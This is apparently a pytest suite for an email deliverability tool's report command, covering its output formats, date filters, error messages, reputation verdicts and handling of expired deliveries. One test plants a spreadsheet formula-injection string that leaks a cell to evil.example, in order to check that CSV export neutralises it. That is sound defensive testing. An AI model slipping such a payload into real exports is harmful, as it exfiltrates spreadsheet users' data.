"""`deliverability report ...` end to end: options, formats, errors, on a store filled by the
factories."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
from datetime import UTC, datetime, timedelta
from pathlib import Path

import factories_reports as f
import pytest
from click.testing import CliRunner, Result
from sqlalchemy import Engine, column, insert, make_url, select, table, update
from sqlalchemy.orm import Session

from deliverability import reports
from deliverability.cli import cli
from deliverability.engine import Engine as DeliverabilityEngine
from deliverability.errors import StoreError
from deliverability.policy import Policy, load_policy
from deliverability.reports import COLUMNS
from deliverability.store.models import DomainProvider, Event, Recipient
from deliverability.store.session import create_engine, current_revision
from deliverability.vocabulary import (
    ActionKind,
    ActionScope,
    EventKind,
    Fault,
    Outcome,
    Reason,
    Standing,
)

NOW = datetime(2026, 11, 2, 12, 0, tzinfo=UTC)
alembic_version = table("alembic_version", column("version_num"))
DAY = timedelta(days=1)


def run(db_url: str, *args: str) -> Result:
    return CliRunner().invoke(
        cli, ["--database-url", db_url, "report", *args, "--now", NOW.isoformat()]
    )


@pytest.fixture
def filled(sa_engine: Engine, db_url: str) -> str:
    """A store with bounces at two domains, one suppressed address and a mix of outcomes."""
    with Session(sa_engine) as session:
        action = f.action(
            session,
            kind=ActionKind.SUPPRESS,
            scope=ActionScope.ADDRESS,
            target="gone@bad.example",
            at=NOW - 2 * DAY,
            reason=Reason.USER_UNKNOWN,
            rule="hard-bounce-decisive",
        )
        gone = f.recipient(
            session,
            "gone@bad.example",
            at=NOW - 9 * DAY,
            standing=Standing.SUPPRESSED,
            reason=Reason.USER_UNKNOWN,
            since=NOW - 2 * DAY,
            action=action,
            last_code=550,
            last_status="5.1.1",
            last_text='550 5.1.1 "gone", no such user',
            bounced_count=1,
        )
        fine = f.recipient(session, "fine@good.example", at=NOW - 9 * DAY)
        f.events(session, gone, 1, at=NOW - 2 * DAY, outcome=Outcome.BOUNCED)
        f.events(session, gone, 3, at=NOW - 5 * DAY, outcome=Outcome.DELIVERED)
        f.events(session, fine, 4, at=NOW - 2 * DAY, outcome=Outcome.DELIVERED)
        f.events(session, fine, 1, at=NOW - 2 * DAY, outcome=Outcome.DEFERRED)
        session.commit()
    return db_url


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("name", ["undeliverable", "domains", "codes", "reputation"])
def test_csv_on_an_empty_database_is_the_header_row_alone_or_empty_rows(
    sa_engine: Engine, db_url: str, name: str
) -> None:
    result = run(db_url, name, "--format", "csv")
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert lines[0].split(",") == list(COLUMNS[name])
    if name != "reputation":
        assert lines[1:] == []


def test_undeliverable_csv_has_an_address_column_and_the_suppressing_rule(filled: str) -> None:
    result = run(filled, "undeliverable", "--format", "csv")
    assert result.exit_code == 0, result.output
    [row] = csv_rows(result.stdout)
    assert row["address"] == "gone@bad.example"
    assert row["reason"] == "user_unknown"
    assert row["standing"] == "suppressed"
    assert row["last_text"] == '550 5.1.1 "gone", no such user'
    assert row["action_rule"] == "hard-bounce-decisive"
    assert row["since"] == (NOW - 2 * DAY).isoformat()


def test_json_is_one_array_of_objects_with_stable_keys_and_iso_times(filled: str) -> None:
    result = run(filled, "undeliverable", "--format", "json")
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)
    assert isinstance(data, list)
    assert list(data[0]) == list(COLUMNS["undeliverable"])
    assert datetime.fromisoformat(data[0]["since"]) == NOW - 2 * DAY
    assert data[0]["since"].endswith("+00:00")


def test_domains_report_sorts_by_bounce_rate_and_takes_top(filled: str) -> None:
    result = run(filled, "domains", "--format", "json")
    data = json.loads(result.stdout)
    assert [d["domain"] for d in data] == ["bad.example", "good.example"]
    assert data[0]["bounce_rate"] == 0.25
    result = run(filled, "domains", "--format", "json", "--top", "1")
    assert [d["domain"] for d in json.loads(result.stdout)] == ["bad.example"]


def test_since_and_domain_filters_apply(filled: str) -> None:
    result = run(filled, "domains", "--format", "json", "--since", "2026-10-30")
    [row] = [d for d in json.loads(result.stdout) if d["domain"] == "bad.example"]
    assert (row["delivered"], row["bounced"]) == (0, 1)
    result = run(filled, "codes", "--format", "json", "--domain", "GOOD.example")
    assert {(r["code"], r["count"]) for r in json.loads(result.stdout)} == {(250, 4), (452, 1)}


def test_a_bare_until_date_includes_that_whole_day(filled: str) -> None:
    # Everything at bad.example happened on 2026-10-28 (deliveries) and 2026-10-31 (the bounce).
    result = run(
        filled, "codes", "--format", "json", "--domain", "bad.example", "--until", "2026-10-31"
    )
    assert {r["code"] for r in json.loads(result.stdout)} == {250, 550}
    result = run(
        filled, "codes", "--format", "json", "--domain", "bad.example", "--until", "2026-10-30"
    )
    assert {r["code"] for r in json.loads(result.stdout)} == {250}


@pytest.mark.parametrize("day", ["20261031", "2026-W44-6"])
def test_a_bare_until_date_in_the_basic_or_week_form_includes_that_whole_day(
    filled: str, day: str
) -> None:
    # 2026-W44-6 is Saturday 2026-10-31, the day of the bounce.
    result = run(filled, "codes", "--format", "json", "--domain", "bad.example", "--until", day)
    assert {r["code"] for r in json.loads(result.stdout)} == {250, 550}


def test_codes_daily_gives_a_day_per_row(filled: str) -> None:
    result = run(filled, "codes", "--daily", "--format", "csv")
    assert result.exit_code == 0, result.output
    assert {r["day"] for r in csv_rows(result.stdout)} == {"2026-10-28", "2026-10-31"}


def test_table_output_shows_the_rows(filled: str) -> None:
    result = run(filled, "undeliverable")
    assert result.exit_code == 0, result.output
    assert "gone@bad.example" in result.stdout
    assert "user_unknown" in result.stdout


def test_reputation_table_ends_with_a_verdict_line(filled: str) -> None:
    result = run(filled, "reputation")
    assert result.exit_code == 0, result.output
    assert result.stdout.rstrip().splitlines()[-1].startswith("verdict: NOT ENOUGH DATA")


def test_reputation_csv_keeps_the_verdict_out_of_the_csv(filled: str) -> None:
    result = run(filled, "reputation", "--format", "csv")
    assert result.exit_code == 0, result.output
    assert "verdict" not in result.stdout
    assert "verdict: NOT ENOUGH DATA" in result.stderr
    assert len(csv_rows(result.stdout)) == 4


def test_output_writes_the_report_to_a_file(filled: str, tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    result = run(filled, "undeliverable", "--format", "csv", "--output", str(target))
    assert result.exit_code == 0, result.output
    assert result.stdout == ""
    assert csv_rows(target.read_text(encoding="utf-8"))[0]["address"] == "gone@bad.example"


def test_an_output_file_that_cannot_be_written_is_a_usage_error_naming_it(
    filled: str, tmp_path: Path
) -> None:
    # Exit 2, as every error that stops a command: exit 1 means some input was rejected.
    target = tmp_path / "missing" / "out.csv"
    result = run(filled, "domains", "--format", "csv", "--output", str(target))
    assert result.exit_code == 2, result.output
    assert f"cannot write {target}" in result.output
    assert "--output" in result.output


def test_html_format_writes_one_page(filled: str, tmp_path: Path) -> None:
    target = tmp_path / "report.html"
    result = run(filled, "domains", "--format", "html", "-o", str(target))
    assert result.exit_code == 0, result.output
    page = target.read_text(encoding="utf-8")
    assert page.startswith("<!DOCTYPE html>")
    assert 'id="chart-outcomes"' in page
    assert "bad.example" in page


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["bogus"], "unknown report 'bogus'; valid reports: undeliverable, domains, codes"),
        (["codes", "--since", "yesterday"], "not a date: 'yesterday'; use YYYY-MM-DD"),
        (["codes", "--until", "2026-02-30"], "not a date: '2026-02-30'"),
        (["codes", "--reason", "nope"], "unknown reason 'nope'; valid reasons: user_unknown"),
        (["codes", "--since", "2026-11-02", "--until", "2026-11-01"], "is not before --until"),
        (["domains", "--domain", "bad domain"], "bad --domain 'bad domain'"),
        (["domains", "--top", "0"], "--top"),
        (["reputation", "--domain", "x.example"], "--domain does not apply to the reputation"),
        (["undeliverable", "--daily"], "--daily does not apply to the undeliverable report"),
        (["codes", "--format", "xml"], "'xml' is not one of"),
        (["domains", "--until", "9999-12-31"], "--until 9999-12-31T00:00:00+00:00 is out of range"),
        (["codes", "--until", "0001-01-01"], "--until 0001-01-01T00:00:00+00:00 is out of range"),
        (["reputation", "--until", "0001-01-03"], "--until 0001-01-03T00:00:00+00:00 is out"),
        (["undeliverable", "--since", "0001-01-01"], "--since 0001-01-01T00:00:00+00:00 is out"),
    ],
)
def test_bad_input_is_a_usage_error_that_says_what_is_valid(
    sa_engine: Engine, db_url: str, args: list[str], message: str
) -> None:
    result = run(db_url, *args)
    assert result.exit_code == 2
    assert message in result.stderr


def test_reputation_thresholds_come_from_the_policy_file(filled: str, tmp_path: Path) -> None:
    policy = tmp_path / "policy.toml"
    policy.write_text("[reputation]\nmin_messages = 1\nbounce_pause = 0.2\n", encoding="utf-8")
    result = CliRunner().invoke(
        cli,
        [
            *("--database-url", filled, "--policy", str(policy), "report", "reputation"),
            *("--format", "json", "--now", NOW.isoformat()),
        ],
    )
    assert result.exit_code == 0, result.output
    [bounce_7d] = [
        r for r in json.loads(result.stdout) if (r["window"], r["metric"]) == ("7d", "bounce")
    ]
    assert (bounce_7d["count"], bounce_7d["base"], bounce_7d["pause_at"]) == (1, 8, 0.2)
    assert bounce_7d["level"] == "review"
    assert "verdict: REVIEW - 7d bounce rate 12.5% (1 of 8) >= 5%" in result.stderr


def test_domains_report_places_a_provider_throttle_from_the_policy_groups(
    sa_engine: Engine, db_url: str
) -> None:
    pause = NOW + timedelta(hours=2)
    with Session(sa_engine) as session:
        r = f.recipient(session, "x@gmail.com", at=NOW - 9 * DAY)
        f.event(session, r, at=NOW - DAY, outcome=Outcome.DEFERRED, reason=Reason.RATE_LIMITED)
        # The shipped policy groups gmail.com under the "google" provider.
        _google_throttle(session, pause)
        session.commit()
    result = run(db_url, "domains", "--format", "json")
    assert result.exit_code == 0, result.output
    [row] = json.loads(result.stdout)
    assert (row["throttled_until"], row["max_rate"]) == (pause.isoformat(), 10.0)


def _google_throttle(session: Session, pause: datetime) -> None:
    """An open throttle on the "google" provider group, paused until `pause`."""
    f.action(
        session,
        kind=ActionKind.THROTTLE,
        scope=ActionScope.PROVIDER,
        target="google",
        at=NOW - DAY,
        pause_until=pause,
        max_rate=10.0,
    )


def test_domains_report_places_a_provider_throttle_on_a_domain_learned_by_its_mx(
    sa_engine: Engine, db_url: str
) -> None:
    pause = NOW + timedelta(hours=2)
    with Session(sa_engine) as session:
        r = f.recipient(session, "ann@acme.example", at=NOW - 9 * DAY)
        f.event(session, r, at=NOW - DAY, outcome=Outcome.DELIVERED, reason=Reason.DELIVERED)
        # aspmx.l.google.com ends in one of the shipped google group's mx_suffixes.
        session.add(
            DomainProvider(
                domain="acme.example",
                provider="google",
                mx_host="aspmx.l.google.com",
                first_seen_at=NOW - DAY,
                last_seen_at=NOW - DAY,
            )
        )
        _google_throttle(session, pause)
        session.commit()
    result = run(db_url, "domains", "--format", "json")
    assert result.exit_code == 0, result.output
    [row] = json.loads(result.stdout)
    assert (row["domain"], row["throttled_until"]) == ("acme.example", pause.isoformat())


def test_domains_report_shows_an_expired_delivery_apart_from_the_deferred_attempts(
    db_url: str,
) -> None:
    # One 452, then nothing until the retry lifetime (5 days by default) ran out: one attempt,
    # deferred, and one expiry, which is the engine giving up, not a second deferral.
    with DeliverabilityEngine(db_url, clock=lambda: NOW) as engine:
        engine.record(
            "ann@full.example",
            "452 4.2.2 The email account that you tried to reach is over quota",
            message_id="<m1@list.example>",
            at=NOW - 6 * DAY,
        )
        assert engine.expire_overdue(NOW).recorded == 1
    result = run(db_url, "domains", "--format", "json", "--since", "2026-10-01")
    assert result.exit_code == 0, result.output
    [row] = json.loads(result.stdout)
    assert (row["attempts"], row["deferred"], row["expired"]) == (1, 1, 1)
    assert row["deferral_rate"] == 1.0
    table = run(db_url, "domains", "--since", "2026-10-01")
    [header] = [line for line in table.stdout.splitlines() if "deferred" in line]
    assert "expired" in header


def _one_expired_delivery(db_url: str) -> None:
    """One 452 six days ago, then nothing: the engine gives the delivery up a day ago, when
    its retry lifetime (5 days by default) ran out."""
    with DeliverabilityEngine(db_url, clock=lambda: NOW) as engine:
        engine.record(
            "ann@full.example",
            "452 4.2.2 The email account that you tried to reach is over quota",
            message_id="<m1@list.example>",
            at=NOW - 6 * DAY,
        )
        assert engine.expire_overdue(NOW).recorded == 1


def test_codes_report_shows_an_expired_delivery_as_expired_not_as_deferred(db_url: str) -> None:
    _one_expired_delivery(db_url)
    result = run(db_url, "codes", "--format", "json", "--since", "2026-10-01")
    assert result.exit_code == 0, result.output
    assert [
        (r["code"], r["reason"], r["outcome"], r["count"]) for r in json.loads(result.stdout)
    ] == [
        (None, "expired", "expired", 1),
        (452, "mailbox_full", "deferred", 1),
    ]
    daily = run(db_url, "codes", "--daily", "--format", "csv", "--since", "2026-10-01")
    assert daily.exit_code == 0, daily.output
    assert [(r["day"], r["outcome"]) for r in csv_rows(daily.stdout)] == [
        ("2026-10-27", "deferred"),
        ("2026-11-01", "expired"),
    ]
    table = run(db_url, "codes", "--daily", "--since", "2026-10-01")
    [line] = [line for line in table.stdout.splitlines() if "2026-11-01" in line]
    assert "expired" in line
    assert "deferred" not in line


def test_html_charts_show_an_expired_delivery_as_expired_not_as_deferred(
    db_url: str, tmp_path: Path
) -> None:
    _one_expired_delivery(db_url)
    target = tmp_path / "report.html"
    result = run(db_url, "domains", "--format", "html", "-o", str(target), "--since", "2026-10-01")
    assert result.exit_code == 0, result.output
    page = target.read_text(encoding="utf-8")
    assert "<title>2026-10-27 deferred: 1</title>" in page
    assert "<title>2026-11-01 expired: 1</title>" in page
    assert "2026-11-01 deferred" not in page
    assert 'data-label="expired" data-value="1"' in page


#: A 4xx blocklisting: the sender's fault. An expiry after it is no strike on the address.
BLOCKLISTED = "451 4.7.1 Client host [192.0.2.1] blocked using zen.spamhaus.org"
#: The domain's host never answers: the network's fault. An expiry after it is a strike.
NO_ANSWER = "451 4.4.1 No answer from host"


def _expired_after(db_url: str, policy: Policy | None = None) -> None:
    """Two deliveries deferred six days ago and given up by the engine a day ago, when their
    retry lifetime (5 days by default) ran out: one after a blocklisting of the sender, one
    after a host that never answered. Both stored `bounced` (reason `expired`), as the engine
    left them before an exempt give-up stopped moving the standing (docs/hygiene.md, "What a
    give-up does to the standing"): the standings a store recorded before keep it."""
    with DeliverabilityEngine(db_url, clock=lambda: NOW, policy=policy) as engine:
        for address, reply in (("kept@bigmail.example", BLOCKLISTED),
                               ("gone@dead.example", NO_ANSWER)):  # fmt: skip
            engine.record(address, reply, message_id="<m1@list.example>", at=NOW - 6 * DAY)
        assert engine.expire_overdue(NOW).recorded == 2
        exempt = Fault.SENDER in engine.policy.hygiene.expiry_exempt_faults
        kept = engine.status("kept@bigmail.example")
        assert kept.standing is (Standing.RETRYING if exempt else Standing.BOUNCED)
        with Session(engine.db) as s, s.begin():
            gave_up = s.scalars(
                select(Event.at).where(Event.kind == EventKind.EXPIRY, Event.recipient_id == (
                    select(Recipient.id).where(Recipient.address_key == kept.address)
                ).scalar_subquery())
            ).one()  # fmt: skip
            s.execute(
                update(Recipient)
                .where(Recipient.address_key == kept.address)
                .values(standing=Standing.BOUNCED, reason=Reason.EXPIRED, standing_since=gave_up,
                        standing_basis_at=gave_up)
            )  # fmt: skip
        # Sendable, and suppressed by nothing.
        assert engine.filter_sendable(["kept@bigmail.example"]) == ["kept@bigmail.example"]


def test_undeliverable_leaves_out_an_address_whose_delivery_expired_after_a_blocklisting(
    db_url: str, tmp_path: Path
) -> None:
    # The sender's blocklisting is no news about the address (docs/reports.md): a list owner
    # removing what the report lists would remove a good address. Every format agrees.
    _expired_after(db_url)
    as_json = run(db_url, "undeliverable", "--format", "json")
    as_csv = run(db_url, "undeliverable", "--format", "csv")
    as_table = run(db_url, "undeliverable")
    page = tmp_path / "undeliverable.html"
    as_html = run(db_url, "undeliverable", "--format", "html", "-o", str(page))
    for result in (as_json, as_csv, as_table, as_html):
        assert result.exit_code == 0, result.output
    [row] = json.loads(as_json.stdout)
    assert (row["address"], row["standing"], row["reason"]) == (
        "gone@dead.example", "bounced", "expired")  # fmt: skip
    assert [r["address"] for r in csv_rows(as_csv.stdout)] == ["gone@dead.example"]
    assert "gone@dead.example" in as_table.stdout
    assert "gone@dead.example" in page.read_text(encoding="utf-8")
    for shown in (as_json.stdout, as_csv.stdout, as_table.stdout, page.read_text("utf-8")):
        assert "kept@bigmail.example" not in shown
        assert "spamhaus" not in shown
    # The same with --reason expired.
    only = run(db_url, "undeliverable", "--reason", "expired", "--format", "csv")
    assert [r["address"] for r in csv_rows(only.stdout)] == ["gone@dead.example"]


def test_undeliverable_lists_every_expired_address_under_a_policy_that_exempts_no_fault(
    db_url: str, tmp_path: Path
) -> None:
    policy = tmp_path / "policy.toml"
    policy.write_text("[hygiene]\nexpiry_exempt_faults = []\n", encoding="utf-8")
    _expired_after(db_url, load_policy(policy))
    result = CliRunner().invoke(
        cli,
        [
            *("--database-url", db_url, "--policy", str(policy), "report", "undeliverable"),
            *("--format", "csv", "--now", NOW.isoformat()),
        ],
    )
    assert result.exit_code == 0, result.output
    assert sorted(r["address"] for r in csv_rows(result.stdout)) == [
        "gone@dead.example",
        "kept@bigmail.example",
    ]


def test_undeliverable_csv_defuses_a_bounce_text_a_spreadsheet_would_run_as_a_formula(
    sa_engine: Engine, db_url: str
) -> None:
    hostile = '=HYPERLINK("http://evil.example/?leak="&A2,"Click to unsubscribe")'
    with Session(sa_engine) as session:
        f.recipient(
            session,
            "gone@bad.example",
            at=NOW - 2 * DAY,
            standing=Standing.BOUNCED,
            reason=Reason.USER_UNKNOWN,
            last_code=550,
            last_text=hostile,
            bounced_count=1,
        )
        session.commit()
    result = run(db_url, "undeliverable", "--format", "csv")
    assert result.exit_code == 0, result.output
    [row] = csv_rows(result.stdout)
    assert row["last_text"] == "'" + hostile
    assert row["address"] == "gone@bad.example"
    assert (
        json.loads(run(db_url, "undeliverable", "--format", "json").stdout)[0]["last_text"]
        == hostile
    )


def html_period(page: str) -> str:
    return page.split('<p class="meta">', 1)[1].split(" &middot; ", 1)[0]


def test_undeliverable_html_without_since_does_not_head_its_rows_with_a_30_day_period(
    sa_engine: Engine, db_url: str, tmp_path: Path
) -> None:
    with Session(sa_engine) as session:
        f.recipient(
            session,
            "old@bad.example",
            at=NOW - 90 * DAY,
            standing=Standing.SUPPRESSED,
            reason=Reason.USER_UNKNOWN,
            since=NOW - 60 * DAY,
        )
        session.commit()
    target = tmp_path / "dead.html"
    result = run(db_url, "undeliverable", "--format", "html", "-o", str(target))
    assert result.exit_code == 0, result.output
    page = target.read_text(encoding="utf-8")
    assert "old@bad.example" in page
    charts = f"{(NOW - 30 * DAY).isoformat()} to {NOW.isoformat()} (UTC)"
    assert html_period(page) == f"every address bounced or suppressed; charts: {charts}"


def test_reputation_html_heads_the_page_with_its_longest_window(
    filled: str, tmp_path: Path
) -> None:
    policy = tmp_path / "policy.toml"
    policy.write_text('[reputation]\nwindows = ["7d", "90d"]\n', encoding="utf-8")
    target = tmp_path / "reputation.html"
    result = CliRunner().invoke(
        cli,
        [
            *("--database-url", filled, "--policy", str(policy), "report", "reputation"),
            *("--format", "html", "-o", str(target), "--now", NOW.isoformat()),
        ],
    )
    assert result.exit_code == 0, result.output
    page = target.read_text(encoding="utf-8")
    assert html_period(page) == f"{(NOW - 90 * DAY).isoformat()} to {NOW.isoformat()} (UTC)"


def _suppress_many(sa_engine: Engine, first: int, count: int) -> None:
    text = "550 5.1.1 <{}>: Recipient address rejected: User unknown in virtual mailbox table"
    rows = [
        {
            "address": f"user{i}@big.example",
            "address_key": f"user{i}@big.example",
            "domain": "big.example",
            "standing": Standing.SUPPRESSED,
            "reason": Reason.USER_UNKNOWN,
            "standing_since": NOW - 2 * DAY,
            "first_seen_at": NOW - 9 * DAY,
            "last_event_at": NOW - 2 * DAY,
            "last_text": text.format(f"user{i}@big.example"),
            "bounced_count": 1,
        }
        for i in range(first, first + count)
    ]
    with Session(sa_engine) as session:
        session.execute(insert(Recipient), rows)
        session.commit()


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_undeliverable_csv_and_json_stream_the_rows_instead_of_holding_the_whole_list(
    sa_engine: Engine, db_url: str, tmp_path: Path, fmt: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Batches much smaller than either list, so both hold two batches at most at once.
    monkeypatch.setattr(reports, "UNDELIVERABLE_BATCH", 100, raising=False)

    def peak(count: int) -> int:
        target = tmp_path / f"dead-{count}.{fmt}"
        tracemalloc.start()
        try:
            result = run(db_url, "undeliverable", "--format", fmt, "-o", str(target))
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
            assert result.exit_code == 0, result.output

    _suppress_many(sa_engine, 0, 1000)
    small = peak(1000)
    _suppress_many(sa_engine, 1000, 4000)
    # Held as a list, each row more took about 900 bytes more at the peak (2.7 MB for 1,000
    # rows, 6.2 MB for 5,000); streamed, the peak stays the same.
    assert peak(5000) - small < 4000 * 100
    assert len((tmp_path / f"dead-5000.{fmt}").read_text(encoding="utf-8").splitlines()) > 5000


def test_a_report_on_a_store_a_newer_version_made_says_so(sa_engine: Engine, db_url: str) -> None:
    with sa_engine.begin() as conn:
        conn.execute(update(alembic_version).values(version_num="0999_future"))
    result = run(db_url, "undeliverable")
    # A StoreError, which the command line's entry point shows as "error: ..." (exit 2).
    assert isinstance(result.exception, StoreError)
    assert "at revision 0999_future, which this version of deliverability does not know" in str(
        result.exception
    )


@pytest.mark.empty_database
@pytest.mark.parametrize("name", ["undeliverable", "domains", "codes", "reputation"])
def test_a_report_on_a_store_that_is_not_there_says_so_and_makes_none(
    db_url: str, name: str
) -> None:
    result = run(db_url, name, "--format", "csv")
    # A StoreError, which the command line's entry point shows as "error: ..." (exit 2).
    assert isinstance(result.exception, StoreError)
    assert str(result.exception).startswith("no store at ")
    assert "nothing has been recorded there" in str(result.exception)
    assert result.stdout == ""
    if db_url.startswith("sqlite"):
        assert not Path(make_url(db_url).database or "").exists()
        return
    engine = create_engine(db_url)
    try:
        assert current_revision(engine) is None
    finally:
        engine.dispose()
